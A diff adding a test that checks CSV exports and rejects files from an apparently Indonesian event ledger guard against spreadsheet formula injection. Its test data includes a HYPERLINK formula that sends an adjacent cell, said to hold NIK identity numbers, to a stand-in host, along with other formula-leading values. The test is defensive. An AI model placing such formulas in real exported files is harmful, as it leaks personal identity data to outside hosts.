@@ -383,6 +383,48 @@ def export_reimports_unchanged_and_rebuild_changes_nothing():
 
 
 @test
+def export_and_rejects_guard_every_text_a_spreadsheet_would_run():
+    """A ref, course, platform or ref_asal may begin with '=', '+', '-' or
+    '@' (any printable text): the export wrote them bare, so a spreadsheet
+    opening it (NIKs beside them) ran them as formulas; now each such cell
+    has the apostrophe guard that the import takes off again, and every
+    cell of a rejects file has it too."""
+    import csv as csvmod
+    import io
+    with J() as r:
+        nik, = r.people(1)
+        formula = '=HYPERLINK("https://contoh.id/?"&B2,"klik")'
+        rows = [ev("=1+2", nik, "lolos", t(1), gelombang=12),
+                ev("@ref", nik, "saldo_masuk", t(2), jumlah=3500000),
+                ev("+beli", nik, "pembelian", t(3), jumlah=1000000, pelatihan=formula,
+                   platform="@SUM(1)"),
+                ev("-batal", nik, "pembatalan", t(4), jumlah=1000000, ref_asal="+beli")]
+        r.events(rows)
+        stored = r.stored()
+        eq(sorted(x[2] for x in stored), sorted(["=1+2", "@ref", "+beli", "-batal"]),
+           "the refs stored as given")
+        out = r.export_events()
+        cells = [c for row in list(csvmod.reader(io.StringIO(out)))[1:] for c in row]
+        bare = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+        eq(bare, [], "no cell of the export a spreadsheet would run")
+        assert "'" + formula in cells and "'@SUM(1)" in cells and "'+beli" in cells, cells
+        # the export imports back unchanged: the guard is taken off
+        code, o, err = r.cli(["import", "events", r.write(out)])
+        eq(code, 0, "reimport (%r)" % err)
+        s = json.loads(o.strip().splitlines()[-1])
+        eq((s["inserted"], s["duplicates"], s["rejected"]), (0, 4, 0), "reimport: all known")
+        eq(r.stored(), stored, "events after reimport")
+        # a rejected row is written back with every cell guarded
+        bad = [ev("=ok", "=1+1", "lolos", t(5), gelombang="-1", pelatihan=formula)]
+        s, _, rej = r.events(bad, rejects=True)
+        eq(s["rejected"], 1, "rejected")
+        cells = [c for row in rej[1:] for c in row] if rej and rej[0][0] == "baris" else \
+            [c for row in rej for c in row]
+        bare = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+        eq(bare, [], "no cell of the rejects a spreadsheet would run: %r" % rej)
+
+
+@test
 def events_are_append_only_in_the_database():
     with J() as r:
         nik = r.people(1)[0]
